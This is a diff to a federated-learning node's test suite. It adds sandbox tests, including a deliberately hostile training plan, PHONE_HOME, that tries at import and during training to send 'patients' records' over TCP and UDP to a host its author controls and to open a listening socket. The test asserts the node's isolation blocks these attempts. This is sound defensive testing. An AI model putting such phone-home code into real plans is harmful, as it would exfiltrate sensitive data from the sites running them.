@@ -10,7 +10,11 @@ refused with ``PermissionError`` and the reply carries nothing of them.
 
 from __future__ import annotations
 
+import json
 import os
+import socket
+import threading
+import time
 
 import numpy as np
 import pandas as pd
@@ -19,10 +23,16 @@ import pytest
 pytest.importorskip("sklearn")
 
 from fedcore.data import ArrayDataset  # noqa: E402
-from fedcore.node import _landlock  # noqa: E402
+from fedcore.node import (
+    Node,  # noqa: E402
+    _landlock,  # noqa: E402
+)
 from fedcore.plan import PlanBundle  # noqa: E402
+from fedcore.wire.identity import Identity  # noqa: E402
 from fedcore.wire.messages import ErrorReply, TrainReply, TrainRequest  # noqa: E402
 from tests._support.attack import Attacker, serve  # noqa: E402
+from tests._support.deployment import start_node, stop_processes  # noqa: E402
+from tests._support.net import free_port as _free_port  # noqa: E402
 from tests._support.sklearn_plans import SleepWhenToldPlan  # noqa: E402
 
 landlock = pytest.mark.skipif(_landlock.abi_version() == 0,
@@ -146,3 +156,182 @@ def test_a_plan_that_kills_its_worker_fails_its_round_and_the_next_round_works(s
     assert record["researcher"] == "alice"  # as the node trusts the key, not as claimed
     again = attacker.ask("site", _request(wire, dataset), round=2).body
     assert isinstance(again, TrainReply) and again.n_samples == len(X)
+
+
+PHONE_HOME = '''
+import socket
+
+from sklearn.linear_model import SGDClassifier
+
+from fedcore_sklearn import SklearnTrainingPlan
+
+PORT = PORT_HERE
+
+
+def _call():
+    got = {}
+    try:
+        with socket.create_connection(("127.0.0.1", PORT), timeout=5) as s:
+            s.sendall(b"the patients' records")
+        got["tcp"] = "connected"
+    except OSError as exc:
+        got["tcp"] = type(exc).__name__
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.sendto(b"the patients' records", ("127.0.0.1", PORT))
+        got["udp"] = "sent"
+    except OSError as exc:
+        got["udp"] = type(exc).__name__
+    try:
+        with socket.socket() as s:
+            s.bind(("127.0.0.1", 0))
+            s.listen()
+        got["listen"] = "listening"
+    except OSError as exc:
+        got["listen"] = type(exc).__name__
+    return got
+
+
+AT_IMPORT = _call()
+
+
+class PhoneHomePlan(SklearnTrainingPlan):
+    estimator = SGDClassifier
+
+    def fit(self, dataset, seed):
+        stats = dict(super().fit(dataset, seed) or {})
+        stats.update({"import_" + k: v for k, v in AT_IMPORT.items()})
+        stats.update({"fit_" + k: v for k, v in _call().items()})
+        return stats
+'''
+
+
+def test_an_approved_plan_cannot_connect_to_a_host_it_controls(site):
+    """The researcher's own server (here on loopback) hears nothing from the plan."""
+    node, attacker, wire, dataset = site
+    heard: list[tuple[str, bytes]] = []
+    with socket.socket() as server, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        server.bind(("127.0.0.1", 0))
+        server.listen()
+        port = server.getsockname()[1]
+        udp.bind(("127.0.0.1", port))
+        udp.settimeout(0.2)
+
+        def listen() -> None:
+            server.settimeout(0.2)
+            while not stop.is_set():
+                for sock in (server, udp):
+                    try:
+                        if sock is server:
+                            conn, _ = sock.accept()
+                            heard.append(("tcp", conn.recv(100)))
+                            conn.close()
+                        else:
+                            heard.append(("udp", sock.recv(100)))
+                    except OSError:
+                        pass
+
+        stop = threading.Event()
+        listener = threading.Thread(target=listen, daemon=True)
+        listener.start()
+        bundle = PlanBundle(files={"plan.py": PHONE_HOME.replace("PORT_HERE", str(port))},
+                            entry="PhoneHomePlan", backend="sklearn")
+        node.plans.submit(bundle)
+        node.plans.approve(bundle.sha256)
+        try:
+            reply = attacker.ask("site", _request(bundle.to_wire(), dataset)).body
+        finally:
+            stop.set()
+            listener.join(5)
+    assert isinstance(reply, TrainReply), reply
+    stats = reply.train_stats
+    network = node._workers.network
+    print(f"\nthe worker's network: {network}; the plan got {stats}")
+    if network == "open":
+        pytest.skip("this kernel keeps the worker off the network neither way (no user "
+                    "namespace, Landlock ABI < 4): the host must block it, as the docs say")
+    for when in ("import", "fit"):  # module code and the training step alike
+        assert stats[f"{when}_tcp"] == "PermissionError" if network == "tcp" else \
+            stats[f"{when}_tcp"] != "connected", stats
+        assert stats[f"{when}_listen"] != "listening", stats
+    assert [h for h in heard if h[0] == "tcp"] == [], heard  # the server heard nothing
+    if "namespace" in network:  # no network at all: UDP (DNS...) goes nowhere either
+        assert heard == [], heard
+
+
+PLAIN = '''
+from sklearn.linear_model import SGDClassifier
+
+from fedcore_sklearn import SklearnTrainingPlan
+
+
+class PlainPlan(SklearnTrainingPlan):
+    estimator = SGDClassifier
+'''
+
+
+def _frameworks(pid: int) -> set[str]:
+    """The ML frameworks whose compiled modules process ``pid`` has loaded."""
+    maps = open(f"/proc/{pid}/maps").read()
+    return {name for name in ("sklearn", "torch", "tensorflow", "jax") if f"/{name}/" in maps}
+
+
+def test_a_restarted_node_starts_its_worker_ahead_with_the_frameworks_it_ran(tmp_path):
+    """The first round after a restart finds its worker started, its framework imported."""
+    alice = tmp_path / "alice.key"
+    url, node = serve(tmp_path / "site", "site", trusted={"alice": alice})
+    dataset = node.datasets.add_arrays("cohort", ["cohort"], X, Y)["id"]
+    bundle = PlanBundle(files={"plan.py": PLAIN}, entry="PlainPlan", backend="sklearn")
+    node.plans.submit(bundle)
+    node.plans.approve(bundle.sha256)
+    with Attacker(url, {"site": node.identity.public_bytes}, key=alice) as attacker:
+        assert isinstance(attacker.ask("site", _request(bundle.to_wire(), dataset)).body,
+                          TrainReply)
+    node.stop()
+    remembered = json.loads((node.home / "plan-workers.json").read_text())
+    assert list(remembered) == [dataset] and remembered[dataset]["backends"] == ["sklearn"]
+    assert "sklearn.linear_model" in remembered[dataset]["modules"]  # what the plan imported
+    assert not [m for m in remembered[dataset]["modules"] if m.startswith("fedcore_plan")]
+
+    url = f"ws://127.0.0.1:{_free_port()}"
+    again = Node(node.home).start(url)  # no request yet
+    try:
+        deadline = time.monotonic() + 120
+        while not (workers := list(again._workers._workers.values())) or not workers[0].warm:
+            assert time.monotonic() < deadline, "no worker started ahead"
+            time.sleep(0.05)
+        [worker] = workers
+        assert "sklearn" in _frameworks(worker.process.pid)  # imported before any request
+        with Attacker(url, {"site": again.identity.public_bytes}, key=alice) as attacker:
+            reply = attacker.ask("site", _request(bundle.to_wire(), dataset)).body
+        assert isinstance(reply, TrainReply) and reply.n_samples == len(X)
+        assert list(again._workers._workers.values()) == [worker]  # it ran the round
+        assert worker.process.poll() is None
+    finally:
+        again.stop()
+
+
+def test_admitting_an_isolated_plan_imports_no_framework_in_the_node(tmp_path):
+    """Under process isolation only the worker imports the plan's framework (a node process)."""
+    alice = tmp_path / "alice.key"
+    home = tmp_path / "site"
+    node = Node(home, node_id="site")
+    node.trust("alice", Identity(alice).public_key)
+    dataset = node.datasets.add_arrays("cohort", ["cohort"], X, Y)["id"]
+    bundle = PlanBundle(files={"plan.py": PLAIN}, entry="PlainPlan", backend="sklearn")
+    node.plans.submit(bundle)
+    node.plans.approve(bundle.sha256)
+    key = node.identity.public_bytes
+    node._close_audit()
+    url = f"ws://127.0.0.1:{_free_port()}"
+    proc = start_node(home, url)
+    try:
+        with Attacker(url, {"site": key}, key=alice) as attacker:
+            reply = attacker.ask("site", _request(bundle.to_wire(), dataset)).body
+            assert isinstance(reply, TrainReply) and reply.n_samples == len(X), reply
+            assert _frameworks(proc.pid) == set()  # the node process imported no framework
+            workers = [int(p) for task in os.listdir(f"/proc/{proc.pid}/task")
+                       for p in open(f"/proc/{proc.pid}/task/{task}/children").read().split()]
+            assert any("sklearn" in _frameworks(pid) for pid in workers)  # its worker did
+    finally:
+        stop_processes([proc])
